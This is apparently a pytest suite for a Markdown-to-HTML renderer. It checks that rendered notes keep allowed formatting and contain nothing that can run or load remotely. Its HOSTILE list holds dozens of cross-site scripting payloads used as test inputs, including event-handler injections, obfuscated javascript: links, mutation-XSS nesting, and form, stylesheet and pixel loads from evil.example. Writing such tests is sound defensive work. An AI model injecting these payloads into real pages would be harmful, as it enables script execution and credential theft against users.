"""Markdown as HTML: what it keeps, and that nothing of it can run."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from octavo.model.refusal import UnrenderableNote
from octavo.render.allowed import MATH_ATTRIBUTES, TAGS
from octavo.render.limits import LIMITS
from octavo.render.note import to_html

HARMLESS = {
    *("accent", "alt", "checked", "class", "colspan", "datetime", "dir", "disabled"),
    *("display", "height", "href", "id", "lang", "loading", "open", "rel", "rowspan", "scope"),
    *("aria-label", "src", "start", "tabindex", "title", "type", "value", "width"),
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<iframe src=https://evil.example></iframe>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](vbscript:x)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/png;base64,AAAA)",
    "[a](file:///etc/passwd)",
    "[a](ftp://evil.example/)",
    "<javascript:alert(1)>",
    "<data:text/html,a>",
    '[a](https://a.example "x\\" onmouseover=alert(1) y=\\"")',
    '[a](<https://a.example/\\" onclick=alert(1)>)',
    "![a](https://evil.example/pixel.gif)",
    '![a](x.png "onload=alert(1)")',
    "[a]: javascript:alert(1)\n\n[a]",
    '```x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    '# a" onclick="alert(1)',
    "# <script>alert(1)</script>",
    "| <b onclick=alert(1)> |\n|:-:|\n| <script>a</script> |",
    "</article></main><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<?php ?><![CDATA[<script>a</script>]]>",
    "\0<scr\0ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "*a_b**<script>*_c**",
]
SIGNS = st.lists(
    st.sampled_from([*"ab \n\t>-*+1.)[]()|`~_:#=&;<!\\\"'/é\0", "javascript:", "on"]), max_size=60
).map("".join)


class Reader(HTMLParser):
    """Reads HTML as a browser would, and collects its elements."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


def check_harmless(html: str) -> None:
    for tag, attributes in Reader(html).elements:
        assert tag in TAGS - {"img"}
        assert attributes.keys() <= HARMLESS | MATH_ATTRIBUTES
        assert "href" not in attributes or tag == "a"
        address = re.sub(r"[\x00-\x20]", "", attributes.get("href", "")).lower()
        scheme = re.match("[a-z][a-z0-9+.-]*:", address)
        assert scheme is None or scheme[0] in ("http:", "https:", "mailto:")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_runs_and_loads_nothing(text: str) -> None:
    check_harmless(to_html(text))


@given(SIGNS, st.lists(st.sampled_from(HOSTILE), max_size=3))
def test_any_text_runs_and_loads_nothing(signs: str, hostile: list[str]) -> None:
    check_harmless(to_html("\n".join([signs, *hostile, signs])))


@given(SIGNS)
def test_equal_texts_give_equal_html(text: str) -> None:
    assert to_html(text) == to_html(text)


def test_allowed_html_in_the_text_stays() -> None:
    html = to_html("a <kbd onclick=b>c</kbd> <font>d</font>")
    assert html == "<p>a <kbd>c</kbd> d</p>\n"


def test_images_and_wiki_links_are_their_texts() -> None:
    assert to_html("![b](c.png) [[d|e]]") == '<p><span class="missing">b</span> e</p>\n'


def test_relative_links_stay() -> None:
    html = to_html("[a](../b%20c#d)")
    assert html == '<p><a href="../b%20c#d" rel="noopener noreferrer">a</a></p>\n'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "a *b* **c** ~~d~~ `e`",
            "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></p>\n",
        ),
        ("> a\n\n---\n", "<blockquote>\n<p>a</p>\n</blockquote>\n<hr>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("a  \nb", "<p>a<br>\nb</p>\n"),
        ("```sh\na < b\n```", '<pre tabindex="0"><code>a &lt; b\n</code></pre>\n'),
        (
            "[a](https://a.org/?x& 'b')",
            '<p><a href="https://a.org/?x&amp;" title="b" rel="noopener noreferrer">a</a></p>\n',
        ),
        (
            "<a@a.example>",
            '<p><a href="mailto:a@a.example" rel="noopener noreferrer">a@a.example</a></p>\n',
        ),
    ],
)
def test_markup_becomes_elements(text: str, html: str) -> None:
    assert to_html(text) == html


def test_table_becomes_a_table() -> None:
    elements = [tag for tag, _ in Reader(to_html("| a |\n|--:|\n| b |")).elements]
    assert elements == ["table", "thead", "tr", "th", "tbody", "tr", "td"]


def test_headings_have_unique_ids_that_links_lead_to() -> None:
    html = to_html("# Your *data*\n\n## Use\n\n## Use\n\nMain\n====\n\n[a](#use-1)")
    elements = Reader(html).elements
    ids = [attributes["id"] for tag, attributes in elements if tag.startswith("h")]
    # The page around it has the id main.
    assert ids == ["your-data", "use", "use-1", "main-1"]
    assert ("a", {"href": "#use-1", "rel": "noopener noreferrer"}) in elements


def test_front_matter_is_left_out() -> None:
    assert to_html("---\nversion: 3\n---\na") == "<p>a</p>\n"


def test_text_beyond_the_limits_is_refused() -> None:
    with pytest.raises(UnrenderableNote):
        to_html("> " * (LIMITS["nesting"] + 1) + "a")
